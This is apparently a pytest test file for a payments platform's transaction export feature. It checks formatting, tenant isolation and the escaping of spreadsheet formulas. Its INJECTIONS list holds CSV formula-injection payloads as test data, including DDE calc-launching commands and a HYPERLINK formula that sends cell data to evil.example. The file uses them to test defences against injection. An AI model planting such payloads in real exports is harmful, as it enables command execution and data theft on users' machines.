"""Files of exactly the rows that were listed, in every format, written once."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import UTC, datetime, timedelta

import asyncpg
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from obstore.store import MemoryStore

from builders import NOW, a_merchant, a_transaction
from export_runs import a_list, asked_for, file_of, rows_of, written
from molam.merchant import report_commands
from molam.merchant.report_model import UNFINISHED_MAX, ExportRefused, ExportsBusy
from molam.platform.db import Database
from molam.platform.exports.cells import as_written, neutral

INJECTIONS = [
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "  +1",
        "\u00a0=1",
    ),
    *("=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example?x="&A1,"ok")', "=IMPORTXML(A1)"),
    *("=DDE(A1)", "@A1", "+221770000000", "-", "=", "+", "@", "\t", "\u200b=1", "\ufeff=1+1"),
    *(
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
        "\u3000=1",
        "\u2003+1",
        "\r\n=1+1",
        '="a"&"b"',
        "=1;2",
        "-2+3+cmd|' /C calc'!A0",
    ),
]
HARMLESS = ["Awa Diop", "a=b", "1+1", "Élodie", "'=1", "日本", "", "x\ty", "مريم", "50%"]


@pytest.fixture(autouse=True)
async def shop(db: Database) -> None:
    await a_merchant(db)


async def test_file_has_the_rows_of_the_list_in_its_order(db: Database, worker_db: Database):
    for index in range(5):
        await a_transaction(db, id_=f"tx_{index}", occurred_at=NOW - timedelta(hours=index))

    rows = rows_of(await file_of(db, worker_db, a_list()))

    assert [row["Transaction"] for row in rows] == ["tx_0", "tx_1", "tx_2", "tx_3", "tx_4"]
    assert rows[0]["Amount"] == "75000"
    assert rows[0]["Currency"] == "XOF"
    assert rows[0]["Date"] == "2026-11-16 12:00:00"


async def test_amounts_are_plain_decimals_in_the_currencys_own_units(
    db: Database, worker_db: Database
):
    await a_transaction(db, id_="cedis", currency="GHS", amount=12_505)
    await a_transaction(db, id_="small", currency="GHS", amount=5)
    await a_transaction(db, id_="large", currency="XOF", amount=2**53 - 1)

    rows = rows_of(await file_of(db, worker_db, a_list()))

    assert {row["Transaction"]: row["Amount"] for row in rows} == {
        "cedis": "125.05",
        "small": "0.05",
        "large": "9007199254740991",
    }


async def test_text_that_a_spreadsheet_would_calculate_gets_an_apostrophe(
    db: Database, worker_db: Database
):
    for index, text in enumerate(INJECTIONS):
        await _customer(db, text, id_=f"tx_{index:02}")

    rows = rows_of(await file_of(db, worker_db, a_list()))

    assert len(INJECTIONS) >= 30
    assert {row["Transaction"]: row["Customer"] for row in rows} == {
        f"tx_{index:02}": f"'{text}" for index, text in enumerate(INJECTIONS)
    }


async def test_spreadsheet_holds_no_formula_whatever_customers_are_called(
    db: Database, worker_db: Database
):
    for index, text in enumerate(INJECTIONS):
        await _customer(db, text, id_=f"tx_{index:02}")

    sheet = _sheet(await file_of(db, worker_db, a_list(format="xlsx")))

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert len([cell for cell in cells if str(cell.value).startswith("'")]) == len(INJECTIONS)


@pytest.mark.parametrize("text", [*INJECTIONS, *HARMLESS], ids=ascii)
async def test_python_and_the_database_agree_on_what_is_a_formula(shared_dsn: str, text: str):
    connection = await asyncpg.connect(shared_dsn)
    try:
        said = await connection.fetchval("select platform.export_text($1)", text)
    finally:
        await connection.close()

    assert said == neutral(text)
    assert as_written(neutral(text)) == text or text == "'=1"


@given(text=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=6))
def test_neutral_text_never_begins_like_a_formula(text: str):
    shown = neutral(text)

    assert not shown.lstrip().startswith(("=", "+", "-", "@"))
    assert as_written(shown) == text or text.startswith("'")


async def test_harmless_text_is_left_alone(db: Database, worker_db: Database):
    for index, text in enumerate(HARMLESS):
        await _customer(db, text, id_=f"tx_{index}")

    rows = rows_of(await file_of(db, worker_db, a_list()))

    assert {row["Transaction"]: row["Customer"] for row in rows} == {
        f"tx_{index}": text for index, text in enumerate(HARMLESS)
    }


async def test_french_file_opens_in_a_french_spreadsheet(db: Database, worker_db: Database):
    await a_transaction(db)

    content = await file_of(db, worker_db, a_list(language="fr"))

    assert content.startswith("\ufeffDate;Transaction;".encode())
    assert rows_of(content, ";")[0]["Montant"] == "75000"


@pytest.mark.parametrize("format_", ["csv", "xlsx", "pdf"])
async def test_empty_list_is_a_file_without_rows(db: Database, worker_db: Database, format_: str):
    content = await file_of(db, worker_db, a_list(format=format_))

    assert content
    if format_ == "csv":
        assert len(content.decode().splitlines()) == 1
    if format_ == "xlsx":
        assert _sheet(content).max_row == 1


async def test_spreadsheet_has_numbers_and_dates_and_a_frozen_head(
    db: Database, worker_db: Database
):
    await a_transaction(db, amount=75_000)

    content = await file_of(db, worker_db, a_list(format="xlsx"))

    assert _cell(content, "Amount").value == 75_000
    assert _cell(content, "Date").value == datetime(2026, 11, 16, 9, 0)  # noqa: DTZ001
    assert _sheet(content).freeze_panes == "A2"


async def test_document_is_the_same_each_time_it_is_made(db: Database, worker_db: Database):
    await a_transaction(db)
    row = await asked_for(db, a_list(format="pdf"))
    files = MemoryStore()

    first = await written(worker_db, row, files)
    async with db.transaction("tests.again") as tx:
        await tx.connection.execute("update merchant.exports set state = 'queued'")
    second = await written(worker_db, row, files)

    assert first.sha256 == second.sha256


async def test_document_of_too_many_rows_says_what_to_use_instead(
    db: Database, worker_db: Database
):
    async with db.transaction("tests.many") as tx:
        await tx.connection.execute(
            "insert into payments.wallet_transactions (merchant_id, id, type, state, amount, currency,"
            " occurred_at, version) select 'merchant-123', 'tx_' || n, 'payment', 'succeeded', 1, 'XOF',"
            " now(), 1 from generate_series(1, 2001) n"
        )

    row = await written(worker_db, await asked_for(db, a_list(format="pdf")), MemoryStore())

    assert (row.state, row.reason) == ("failed", "too-many-rows")


async def test_file_is_told_with_its_own_hash(db: Database, worker_db: Database):
    await a_transaction(db)
    row = await asked_for(db, a_list())
    files = MemoryStore()
    done = await written(worker_db, row, files)

    content = bytes(files.get(str(done.file_path)).bytes())

    assert done.sha256 == hashlib.sha256(content).hexdigest()
    assert (done.rows_done, done.rows_total) == (1, 1)


async def test_same_request_within_a_minute_is_the_same_file(db: Database):
    first = await asked_for(db, a_list())
    again = await asked_for(db, a_list())
    other = await asked_for(db, a_list(language="fr"))

    assert again.id == first.id
    assert other.id != first.id


async def test_same_request_after_a_failure_is_a_new_file(db: Database):
    first = await asked_for(db, a_list())
    async with db.transaction("tests.fail") as tx:
        await tx.connection.execute("update merchant.exports set state = 'failed', reason = 'x'")

    again = await asked_for(db, a_list())

    assert again.id != first.id


async def test_no_more_files_wait_for_one_merchant_than_may(db: Database):
    for index in range(UNFINISHED_MAX):
        await asked_for(db, a_list(search=f"query {index}"))

    with pytest.raises(ExportsBusy):
        await asked_for(db, a_list(search="one more"))


@pytest.mark.parametrize(
    "changed",
    [
        {"kind": "statement"},
        {"kind": "statement", "format": "csv", "month": "2026-10"},
        {"kind": "payouts", "search": "x"},
        {"kind": "payouts", "status": "succeeded"},
        {"kind": "journal", "format": "pdf"},
        {"kind": "ledger", "status": "paid"},
        {"month": "2026-10"},
        {"format": "hledger"},
    ],
    ids=str,
)
async def test_request_whose_parts_do_not_fit_is_refused(db: Database, changed: dict[str, str]):
    with pytest.raises(ExportRefused):
        await asked_for(db, a_list(**changed))


async def test_other_merchants_rows_are_never_in_a_file(db: Database, worker_db: Database):
    await a_merchant(db, id_="merchant-999", name="Autre")
    await a_transaction(db, id_="mine")
    await a_transaction(db, id_="theirs", merchant_id="merchant-999")

    rows = rows_of(await file_of(db, worker_db, a_list()))

    assert [row["Transaction"] for row in rows] == ["mine"]


@pytest.mark.parametrize(
    "kind", ["refunds", "payouts", "payout_lines", "disputes", "ledger", "journal"]
)
async def test_every_kind_can_be_written_without_rows(db: Database, worker_db: Database, kind: str):
    content = await file_of(db, worker_db, a_list(kind=kind))

    assert len(list(csv.reader(io.StringIO(content.decode())))) == 1


async def test_old_files_are_removed_and_their_rows_say_so(db: Database, worker_db: Database):
    files = MemoryStore()
    done = await written(worker_db, await asked_for(db, a_list()), files)
    async with db.transaction("tests.age") as tx:
        await tx.connection.execute(
            "update merchant.exports set expires_at = $1", datetime.now(UTC) - timedelta(seconds=1)
        )

    await report_commands.purge(worker_db, files)

    assert done.file_path not in {each["path"] for batch in files.list() for each in batch}
    async with db.transaction("tests.look") as tx:
        state = await tx.connection.fetchval("select state from merchant.exports")
    assert state == "expired"


async def _customer(db: Database, name: str, id_: str = "tx_1") -> None:
    await a_transaction(db, id_=id_)
    async with db.transaction("tests.customer") as tx:
        await tx.connection.execute(
            "update payments.wallet_transactions set customer = $1 where id = $2",
            *({"name": name}, id_),
        )


def _sheet(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]


def _cell(content: bytes, title: str):
    sheet = _sheet(content)
    titles = [cell.value for cell in sheet[1]]
    return sheet.cell(row=2, column=titles.index(title) + 1)
